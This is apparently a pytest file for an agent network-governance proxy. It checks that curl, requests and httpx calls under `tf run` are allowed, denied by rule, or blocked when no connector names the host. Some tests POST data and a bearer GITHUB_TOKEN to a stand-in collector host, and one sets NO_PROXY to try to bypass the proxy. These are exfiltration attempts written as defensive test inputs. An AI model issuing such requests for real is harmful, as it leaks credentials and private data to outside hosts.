"""curl, requests and httpx under `tf run`, unchanged: allowed, denied, and a host that no connector names."""

from __future__ import annotations

import json
import sys

import pytest
from tests.support.product import Governed

REQUESTS = """
import json, os, requests
token = {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}
def told(method, url):
    answer = requests.request(method, url, headers=token, timeout=20)
    return [answer.status_code, answer.json(), "X-TameFlare-Request-Id" in answer.headers]
"""
HTTPX = REQUESTS.replace("requests", "httpx")
USER, MERGE = "https://api.github.com/user", "https://api.github.com/repos/acme/site/pulls/1/merge"
ELSEWHERE = "https://collector.example/drop"


@pytest.mark.parametrize("client", [REQUESTS, HTTPX], ids=["requests", "httpx"])
def test_python_client(governed: Governed, client: str) -> None:
    calls = f"[told('GET', '{USER}'), told('PUT', '{MERGE}'), told('POST', '{ELSEWHERE}')]"
    with governed.upstream("collector.example") as leaked:
        allowed, denied, unknown = governed.python(f"{client}print(json.dumps({calls}))")
    assert allowed[0] == 200
    assert allowed[1]["login"] == "octo-demo"
    assert (denied[0], denied[1]["code"], denied[1]["action"]) == (403, "rule_deny", "github.pr.merge")
    assert (unknown[0], unknown[1]["code"]) == (403, "no_connector")
    assert "collector.example" in unknown[1]["message"]
    assert unknown[1]["help"]
    assert allowed[2]
    assert denied[2]
    assert unknown[2]
    assert leaked() == []


def curl(governed: Governed, *arguments: str) -> tuple[int, dict[str, object]]:
    """Status and JSON body of one curl under `tf run`."""
    done = governed.run("curl", "-sS", "--max-time", "20", "-w", "\n%{http_code}", *arguments)
    assert done.returncode == 0, done.stderr
    body, _, status = done.stdout.rpartition("\n")
    return int(status), json.loads(body)


def test_curl_allowed(governed: Governed) -> None:
    status, body = curl(governed, USER)
    assert (status, body["login"]) == (200, "octo-demo")


def test_curl_denied(governed: Governed) -> None:
    status, body = curl(governed, "-X", "PUT", MERGE)
    assert (status, body["code"]) == (403, "rule_deny")
    assert {"error", "code", "message", "action", "reason", "request_id", "matched", "help"} <= body.keys()


def test_curl_to_an_unknown_host_sends_nothing(governed: Governed) -> None:
    with governed.upstream("collector.example") as leaked:
        status, body = curl(governed, "--data", "what I know", ELSEWHERE)
    assert (status, body["code"]) == (403, "no_connector")
    assert leaked() == []
    assert governed.record(lambda row: row["host"] == "collector.example")["decision"] == "deny"


def test_plain_http_never_carries_the_credential(governed: Governed) -> None:
    status, body = curl(governed, "http://api.github.com/user")
    assert (status, body["code"]) == (403, "plaintext_refused")


def test_what_the_agent_sends_as_key_does_not_go_upstream(governed: Governed) -> None:
    mark = len(governed.vendors.ledger)
    assert curl(governed, "-H", "Authorization: token ghp_mine", "-H", "X-Mine: kept", USER)[0] == 200
    (seen,) = governed.vendors.ledger.since(mark)
    assert seen.authorised
    assert seen.headers["x-mine"] == "kept"
    assert "proxy-authorization" not in seen.headers


def test_exit_code_and_output_pass_through(governed: Governed) -> None:
    done = governed.run(sys.executable, "-c", "import sys; print('out'); sys.exit(7)")
    assert (done.returncode, done.stdout) == (7, "out\n")
    assert "0 allowed, 0 denied" in done.stderr


def test_an_inherited_no_proxy_does_not_lead_past(governed: Governed) -> None:
    past = {"NO_PROXY": "*", "no_proxy": "*", "ALL_PROXY": "http://127.0.0.1:9", "HTTPS_PROXY": "http://127.0.0.1:9"}
    done = governed.run("curl", "-sS", "--max-time", "20", "-o", "/dev/null", "-w", "%{http_code}", USER, env=past)
    assert done.stdout == "200", done.stderr


def test_many_at_once_are_counted(governed: Governed) -> None:
    urls = [f"https://api.github.com/repos/acme/site/issues/{number}" for number in range(1000, 1040)]
    done = governed.run("curl", "-sS", "--parallel", "--max-time", "60", "-o", "/dev/null", *urls)
    assert done.returncode == 0, done.stderr
    assert "40 allowed, 0 denied" in done.stderr
